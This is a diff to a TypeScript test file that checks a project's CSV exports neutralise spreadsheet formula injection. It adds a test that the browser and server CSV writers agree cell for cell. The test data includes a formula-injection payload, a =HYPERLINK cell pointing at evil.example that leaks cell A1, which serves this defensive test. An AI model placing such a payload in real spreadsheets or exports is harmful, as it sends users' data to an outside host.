@@ -1,8 +1,13 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { csvOf } from '../../src/domain/csv.js';
 import { neutraliseCsvCell, toCsv } from '../../web/src/lib/calendar.js';
 
-/** The team-hours export is the only CSV Tandem writes (issue 37): no cell may start a formula. */
+/**
+ * Tandem writes CSV on both sides: the server's insights exports (src/domain/csv.ts) and the browser's
+ * team-hours export (issue 37), a pivot of the week the page already holds that no endpoint writes (the
+ * web may not import the server's domain). No cell may start a formula, and the two writers must agree.
+ */
 describe('CSV cells cannot start a spreadsheet formula', () => {
   it('prefixes a member named =HYPERLINK(...) with a single quote, quoted as one field', () => {
     const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
@@ -23,5 +28,16 @@ describe('CSV cells cannot start a spreadsheet formula', () => {
     assert.equal(neutraliseCsvCell(-2), '-2');
     assert.equal(neutraliseCsvCell(0), '0');
     assert.equal(toCsv([['@SUM(A1)', '+49 30', 'x']]), "'@SUM(A1),'+49 30,x\r\n");
+  });
+
+  it('writes what the server writes, cell for cell', () => {
+    const rows: (string | number)[][] = [
+      ['Name', 'Kind', 'Total hours'],
+      ['=HYPERLINK("x")', 'person', 7.5],
+      ['Ada, "the first"', 'agent\nline', -2],
+      ['@SUM(A1)', '+49 30', 0],
+      ['\tTabbed', '\rReturned', 'plain'],
+    ];
+    assert.equal(toCsv(rows), csvOf(rows[0] as string[], rows.slice(1)));
   });
 });
